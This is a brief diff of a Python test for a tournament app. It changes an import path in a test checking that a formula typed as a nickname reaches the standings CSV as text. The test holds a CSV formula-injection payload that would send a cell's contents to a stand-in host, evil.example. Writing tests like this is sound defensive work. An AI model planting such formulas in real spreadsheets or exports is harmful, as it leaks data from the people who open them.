@@ -100,7 +100,7 @@ def test_a_formula_as_a_nickname_reaches_the_standings_csv_as_text(client, organ
 
     from mafiatab.core.demo import demo_tournament_dict
     from mafiatab.core.tournament_file import parse_tournament
-    from mafiatab.tournaments.services import tournament_import
+    from mafiatab.standings.services.tournament_file import tournament_import
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"Doc")'
     text = json.dumps(demo_tournament_dict(), ensure_ascii=False)
